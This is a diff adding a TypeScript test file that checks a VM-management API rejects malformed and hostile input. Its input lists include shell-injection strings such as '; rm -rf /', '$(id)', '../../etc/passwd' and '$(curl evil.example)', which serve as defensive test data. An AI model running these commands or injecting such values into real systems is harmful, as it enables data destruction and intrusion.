@@ -1,0 +1,161 @@
+import { afterEach, describe, expect, it } from 'vitest';
+import { decodeUserData } from '../../src/validation.ts';
+import { b64, useHarness } from './harness.ts';
+
+const h = useHarness();
+afterEach(async () => {
+  // Every rejection: nothing queued, no name reserved.
+  expect(await h.jobCount()).toBe(0);
+  expect(await h.prefixKeys('vmhost:*')).toEqual([]);
+  expect(await h.prefixKeys('vmseq:*')).toEqual([]);
+});
+
+const good = () => ({ vm_name: 'good-name', region_name: 'r1', instance_type: 'tiny', image: 'v0.76.0', tags: { owner: 'alice' } });
+
+interface ErrorBody {
+  error: { code: string; message: string; request_id: string; details?: unknown };
+  detail: string;
+}
+
+async function expectRejected(path: string, body: string, statuses: number[], method = 'POST'): Promise<ErrorBody> {
+  const r = await h.fetch(path, { method, body, headers: { 'content-type': 'application/json' } });
+  expect(statuses, `${method} ${path} → ${r.status}`).toContain(r.status);
+  const text = await r.text();
+  expect(text).not.toMatch(/at .*\.ts:\d+|node_modules|\bstack\b/);
+  const err = JSON.parse(text) as ErrorBody;
+  expect(err.error.message).toBeTruthy();
+  expect(err.detail).toBe(err.error.message);
+  expect(err.error.request_id).toBe(r.headers.get('x-request-id'));
+  return err;
+}
+
+const HOSTILE_NAMES = [
+  '; rm -rf /',
+  '$(id)',
+  '`id`',
+  'a\nb',
+  '--force',
+  '-rf',
+  'A',
+  'Amber',
+  'a b',
+  'a_b',
+  'a.b',
+  '-a',
+  'a-',
+  '',
+  'ü',
+  '../etc',
+  'a'.repeat(64),
+];
+
+const cases: Array<[label: string, body: Record<string, unknown> | string, statuses: number[], message?: RegExp]> = [
+  ...HOSTILE_NAMES.map((n): [string, Record<string, unknown>, number[], RegExp] => [
+    `vm_name ${JSON.stringify(n)}`,
+    { ...good(), vm_name: n },
+    [422],
+    /vm_name/,
+  ]),
+  ['vm_name missing', { region_name: 'r1', instance_type: 'tiny', image: 'v0.76.0' }, [422], /vm_name/],
+  ['vm_name a number', { ...good(), vm_name: 7 }, [422], /vm_name/],
+  ['unknown region', { ...good(), region_name: 'nowhere' }, [422], /unknown region/],
+  ['disabled region', { ...good(), region_name: 'off' }, [422], /unknown region/],
+  ['hostile region', { ...good(), region_name: '$(id)' }, [422], /unknown region/],
+  ['unknown instance type', { ...good(), instance_type: 'gigantic' }, [422], /instance_type/],
+  ['instance type of another region', { ...good(), region_name: 'r2', instance_type: 'large' }, [422], /instance_type/],
+  ['unknown image', { ...good(), image: 'no-such-image' }, [422], /unknown image/],
+  ['image as a path', { ...good(), image: '../../etc/passwd' }, [422], /unknown image/],
+  ['image named like an Object property', { ...good(), image: 'constructor' }, [422], /unknown image/],
+  ['user_data not base64', { ...good(), user_data: 'not base64 !!!' }, [422], /base64/],
+  ['user_data with bad padding', { ...good(), user_data: 'YWJj=' }, [422], /base64/],
+  ['user_data base64 with newlines', { ...good(), user_data: 'I2Nsb3Vk\nLWNvbmZpZw==' }, [422], /base64/],
+  ['user_data base64 of invalid YAML', { ...good(), user_data: b64('key: [unclosed\n  - : :') }, [422], /not YAML/],
+  ['user_data base64 of two YAML documents', { ...good(), user_data: b64('a: 1\n---\nb: 2\n') }, [422], /not YAML/],
+  ['user_data base64 of binary', { ...good(), user_data: Buffer.from([0xff, 0xfe, 0xfd, 0x00]).toString('base64') }, [422], /UTF-8/],
+  ['user_data not a string', { ...good(), user_data: { a: 1 } }, [422], /user_data/],
+  ['tag value with a newline', { ...good(), tags: { owner: 'a\nb' } }, [422], /tag/],
+  ['tag key with a space', { ...good(), tags: { 'bad key': 'x' } }, [422], /tag/],
+  ['tags an array', { ...good(), tags: ['a'] }, [422], /tags/],
+  ['too many tags', { ...good(), tags: Object.fromEntries(Array.from({ length: 65 }, (_, i) => [`k${i}`, 'v'])) }, [422], /tags/],
+  ['malformed JSON', '{"vm_name": ', [400], /malformed JSON/],
+  ['JSON that is not an object', '["a"]', [400], /object/],
+  ['JSON null', 'null', [400], /object/],
+  ['empty body', '', [400], /required/],
+  ['oversized body', JSON.stringify({ ...good(), user_data: b64('#cloud-config\n'.padEnd(100 * 1024, '#')) }), [413], /too large|larger/],
+];
+
+describe('bad input on create (new and legacy routes)', () => {
+  it.each(cases)('%s → 4xx, nothing queued', async (_label, body, statuses, message) => {
+    for (const path of ['/v1/vms', '/v1/create']) {
+      const err = await expectRejected(path, typeof body === 'string' ? body : JSON.stringify(body), statuses);
+      if (message) expect(err.error.message).toMatch(message);
+    }
+  });
+
+  it('names the field of a schema failure without echoing the value', async () => {
+    const err = await expectRejected('/v1/vms', JSON.stringify({ ...good(), vm_name: '$(curl evil.example)' }), [422]);
+    expect(err.error.code).toBe('VALIDATION');
+    expect(err.error.details).toEqual([{ path: 'vm_name', message: expect.stringMatching(/DNS label/) }]);
+    expect(JSON.stringify(err)).not.toContain('evil.example');
+  });
+
+  it('refuses an oversized body without Content-Length (chunked) too', async () => {
+    const big = JSON.stringify({ ...good(), user_data: b64('x'.repeat(100 * 1024)) });
+    const stream = new ReadableStream({
+      start(c) {
+        for (let i = 0; i < big.length; i += 8192) c.enqueue(new TextEncoder().encode(big.slice(i, i + 8192)));
+        c.close();
+      },
+    });
+    const r = await h.fetch('/v1/vms', { method: 'POST', body: stream, headers: { 'content-type': 'application/json' }, duplex: 'half' } as RequestInit);
+    expect(r.status).toBe(413);
+    expect(((await r.json()) as ErrorBody).error.code).toBe('PAYLOAD_TOO_LARGE');
+  });
+});
+
+describe('bad input on the other mutations', () => {
+  it.each([
+    ['POST', '/v1/vms/r1/good-name/stop', '{"force": "yes"}', [422]],
+    ['POST', '/v1/vms/r1/good-name/stop', '{"timeout_ms": -1}', [422]],
+    ['POST', '/v1/vms/r1/good-name/stop', '{oops', [400]],
+    ['POST', '/v1/vms/r1/good-name/reboot', '{"timeout_ms": 1.5}', [422]],
+    ['PUT', '/v1/vms/r1/good-name/tags', '{}', [422]],
+    ['PUT', '/v1/vms/r1/good-name/tags', '{"tags": {"owner": "a\\u0000b"}}', [422]],
+    ['POST', '/v1/vms/r1/BAD/start', '', [422]],
+    ['POST', '/v1/vms/r1/a%0Ab/start', '', [422]],
+    ['POST', '/v1/vms/nowhere/good-name/start', '', [404]],
+    ['POST', '/v1/vms/off/good-name/start', '', [404]],
+    ['DELETE', '/v1/vms/r1/%24(id)', '', [422]],
+    ['POST', '/v1/start', '{"vm_name": "$(id)", "region_name": "r1"}', [422]],
+    ['POST', '/v1/stop', '{"vm_name": "good-name", "region_name": "nowhere"}', [422]],
+    ['POST', '/v1/edit-tags', '{"vm_name": "good-name", "region_name": "r1", "tags": {"k": 1}}', [422]],
+    ['DELETE', '/v1/delete', '{"vm_name": "--force", "region_name": "r1"}', [422]],
+    ['DELETE', '/v1/delete', 'not json', [400]],
+  ])('%s %s %s → %j', async (method, path, body, statuses) => {
+    await expectRejected(path, body, statuses, method);
+  });
+
+  it('answers 404 for an operation on a VM that no host knows', async () => {
+    for (const [method, path] of [
+      ['POST', '/v1/vms/r1/ghost/start'],
+      ['POST', '/v1/vms/r1/ghost/stop'],
+      ['POST', '/v1/vms/r1/ghost/reboot'],
+      ['DELETE', '/v1/vms/r1/ghost'],
+    ]) {
+      const err = await expectRejected(path as string, '', [404], method);
+      expect(err.error.message).toBe('vm not found');
+    }
+    await expectRejected('/v1/vms/r1/ghost/tags', '{"tags": {}}', [404], 'PUT');
+    await expectRejected('/v1/start', '{"vm_name": "ghost", "region_name": "r1"}', [404]);
+  });
+});
+
+describe('decodeUserData', () => {
+  it('returns the text of valid base64 YAML and null when absent', () => {
+    expect(decodeUserData(b64('#cloud-config\npackages: [htop]\n'))).toBe('#cloud-config\npackages: [htop]\n');
+    expect(decodeUserData(b64('#!/bin/sh\necho hi\n'))).toBe('#!/bin/sh\necho hi\n');
+    expect(decodeUserData(undefined)).toBeNull();
+    expect(decodeUserData(null)).toBeNull();
+    expect(decodeUserData('')).toBeNull();
+  });
+});
